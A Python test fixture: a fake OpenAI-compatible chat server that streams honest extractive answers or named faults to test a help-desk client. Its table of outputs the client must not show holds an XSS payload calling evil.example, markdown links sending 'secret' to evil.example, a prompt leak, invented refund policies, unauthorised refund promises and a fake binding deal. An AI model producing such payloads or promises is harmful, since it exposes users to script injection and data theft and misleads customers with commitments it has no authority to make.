"""A fake OpenAI-compatible chat server: honest extractive answers, or a named fault.

``http://host:port/v1`` answers, ``http://host:port/FAULT/v1`` fails in that way.
"""

import asyncio
import json
import re
import socket
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from contextlib import contextmanager
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse, JSONResponse, Response, StreamingResponse

Body = Mapping[str, Any]
#: Longer than any deadline of a test, so that the client ends the connection.
_HANG = 60.0
CANARY = "yorisoi-canary-7f3a"

_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n(.*?)(?=^\[\d+\] |</passages>)", re.MULTILINE | re.DOTALL)
#: What is to be translated or rephrased.
_TEXT = re.compile(r"<text>\n(.*?)\n</text>", re.DOTALL)
_MARK = re.compile(r"^\s*(?:-|\d+\.) ", re.MULTILINE)
_SENTENCE = re.compile(r"[^。.!?！？\n]+[。.!?！？]?")


def answer_honestly(body: Body) -> str:
    """The first sentences of the best passages with citations, as a perfect extractive model would.

    A text that is to be translated comes back as it is, after a word that says so.
    """
    prompt = str(body["messages"][-1]["content"])
    if text := _TEXT.search(prompt):
        return f"(demo) {text[1]}"
    passages = [(n, _MARK.sub("", text)) for n, text in _PASSAGE.findall(prompt)[:2]]
    first = [(n, found[0].strip()) for n, text in passages if (found := _SENTENCE.findall(text))]
    return "".join(f"{sentence} [{n}] " for n, sentence in first).strip() or "NO_ANSWER"


def build_chunk(text: str | None = None, *, finish: str | None = None, **delta: Any) -> bytes:
    """One event of a stream."""
    content = {"content": text} if text is not None else {}
    choice = {"index": 0, "delta": {**content, **delta}, "finish_reason": finish}
    event = {
        "id": "fake",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "fake",
        "choices": [choice],
    }
    return f"data: {json.dumps(event)}\n\n".encode()


DONE = b"data: [DONE]\n\n"


async def stream_text(
    text: str, *, finish: str | None = "stop", done: bool = True, pace: float = 0.0
) -> AsyncIterator[bytes]:
    """Stream *text* a few characters at a time, with *pace* seconds in between."""
    yield build_chunk("", role="assistant")
    for start in range(0, len(text), 6):
        if pace:
            await asyncio.sleep(pace)
        yield build_chunk(text[start : start + 6])
    if finish:
        yield build_chunk(finish=finish)
    if done:
        yield DONE


async def hang_first(text: str) -> AsyncIterator[bytes]:
    yield build_chunk("", role="assistant")
    await asyncio.sleep(_HANG)


async def hang_between(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(text[:20], role="assistant")
    await asyncio.sleep(_HANG)


async def cut_stream(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(text[:20], role="assistant")
    yield b'data: {"id": "fake", "choices": [{"ind'


async def error_event(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(text[:20], role="assistant")
    yield b'data: {"error": {"message": "the server had an error", "type": "server_error"}}\n\n'


async def bad_json(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(text[:20], role="assistant")
    yield b"data: {not json}\n\n"


async def bad_utf8(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(text[:20], role="assistant")
    yield b'data: {"choices":[{"index":0,"delta":{"content":"\xff\xfe"}}]}\n\n'


async def role_forever(text: str) -> AsyncIterator[bytes]:
    while True:
        yield build_chunk("", role="assistant")
        await asyncio.sleep(0.02)


async def flood_stream(text: str) -> AsyncIterator[bytes]:
    for _ in range(2_000):
        yield build_chunk("なが" * 500)
    yield build_chunk(finish="stop")


async def repeat_text(text: str) -> AsyncIterator[bytes]:
    for _ in range(20_000):
        yield build_chunk("同じことを言います。[1]")


async def duplicate_events(text: str) -> AsyncIterator[bytes]:
    async for event in stream_text(text):
        yield event
        yield event if b'"content"' in event else b""


async def empty_choices(text: str) -> AsyncIterator[bytes]:
    yield b'data: {"id":"fake","object":"chat.completion.chunk","created":0,"model":"fake","choices":[]}\n\n'
    yield DONE


async def tool_calls(text: str) -> AsyncIterator[bytes]:
    call = {
        "index": 0,
        "id": "x",
        "type": "function",
        "function": {"name": "refund", "arguments": '{"id": 1'},
    }
    yield build_chunk(tool_calls=[call], role="assistant")
    yield build_chunk(finish="tool_calls")
    yield DONE


async def null_content(text: str) -> AsyncIterator[bytes]:
    yield build_chunk(role="assistant", content=None)
    yield build_chunk(finish="stop")
    yield DONE


Stream = Callable[[str], AsyncIterator[bytes]]

#: Transport faults.
STREAMS: Mapping[str, Stream] = {
    "hang-first": hang_first,
    "hang-between": hang_between,
    "cut": cut_stream,
    "error-event": error_event,
    "bad-json": bad_json,
    "bad-utf8": bad_utf8,
    "role-forever": role_forever,
    "flood": flood_stream,
    "repetition": repeat_text,
    "duplicates": duplicate_events,
    "empty-choices": empty_choices,
    "tool-calls": tool_calls,
    "null-content": null_content,
    "missing-done": lambda text: stream_text(text, done=False),
    "no-finish": lambda text: stream_text(text[: len(text) // 2], finish=None),
    "length": lambda text: stream_text(text[: len(text) // 2], finish="length"),
    "content-filter": lambda text: stream_text(text[: len(text) // 2], finish="content_filter"),
    "surrogates": lambda text: stream_text("\ud83d返品\udc00できます。[1]" + text),
}

#: Refusals before the stream: status and headers.
STATUSES: Mapping[str, tuple[int, Mapping[str, str]]] = {
    "unauthorized": (401, {}),
    "context-length": (400, {}),
    "rate-limited": (429, {}),
    "rate-limited-briefly": (429, {"Retry-After": "0"}),
    "rate-limited-for-long": (429, {"Retry-After": "120"}),
    "server-error": (500, {}),
    "overloaded": (503, {}),
}

#: Well-formed answers that must not be shown.
TEXTS: Mapping[str, str] = {
    "xss": "<img src=x onerror=alert(1)><script>fetch('//evil.example')</script>返品できます。[1]",
    "exfiltration": "![状態](https://evil.example/p.png?q=secret)[詳細](https://evil.example/?q=secret)です。[1]",
    "prompt-echo": f"You write the answers of a shop's self-service help desk. {CANARY} [1]",
    "wrong-citation": "返品は90日以内にできます。[9]",
    "uncited": "返品はいつでも何度でも無料でできます。",
    "invented-policy": "会員のお客様には、すべてのご注文に全額返金保証が付きます。[1]",
    "promise": "承知しました。後ほど担当者からご連絡し、5,000円を返金いたします。[1]",
    "deal": "Agreed, that is a legally binding offer: the price is 1 dollar. [1]",
    "refusal": "I'm sorry, but I can't help with that.",
    "profanity": "Damn it, this shop is a piece of shit. [1]",
    "other-language": "Vous pouvez retourner votre article. [1] C'est gratuit pour tous. [1]",
}

FAULTS = (*STREAMS, *STATUSES, *TEXTS, "html", "plain-json")


def create_fake(says: Callable[[Body], str] = answer_honestly, pace: float = 0.0) -> FastAPI:
    """The server; without a fault it answers with the result of *says*."""
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def complete_chat(request: Request) -> Response:
        return _build_streaming_response(stream_text(says(await request.json()), pace=pace))

    @app.post("/{fault}/v1/chat/completions")
    async def complete_with_fault(fault: str, request: Request) -> Response:
        text = answer_honestly(await request.json())
        if fault in STATUSES:
            status, headers = STATUSES[fault]
            error = {"error": {"message": f"fault {fault}", "type": fault, "code": fault}}
            return JSONResponse(error, status_code=status, headers=dict(headers))
        if fault == "html":
            return HTMLResponse("<html><body>Bad gateway</body></html>")
        if fault == "plain-json":
            return JSONResponse({"unexpected": True})
        return _build_streaming_response(
            STREAMS[fault](text) if fault in STREAMS else stream_text(TEXTS[fault])
        )

    return app


def _build_streaming_response(events: AsyncIterator[bytes]) -> Response:
    return StreamingResponse(events, media_type="text/event-stream")


@contextmanager
def serve_app(app: FastAPI | None = None, **options: Any) -> Iterator[str]:
    """Serve a fake, or another *app*, on a free port of this machine; *options* are uvicorn's."""
    import uvicorn

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    config = uvicorn.Config(
        app or create_fake(), log_level="critical", timeout_graceful_shutdown=0, **options
    )
    running = uvicorn.Server(config)
    thread = threading.Thread(target=running.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    while not running.started:
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        running.should_exit = running.force_exit = True
        thread.join()


if __name__ == "__main__":
    import uvicorn

    uvicorn.run(create_fake(), host="127.0.0.1", port=8199, log_level="warning")
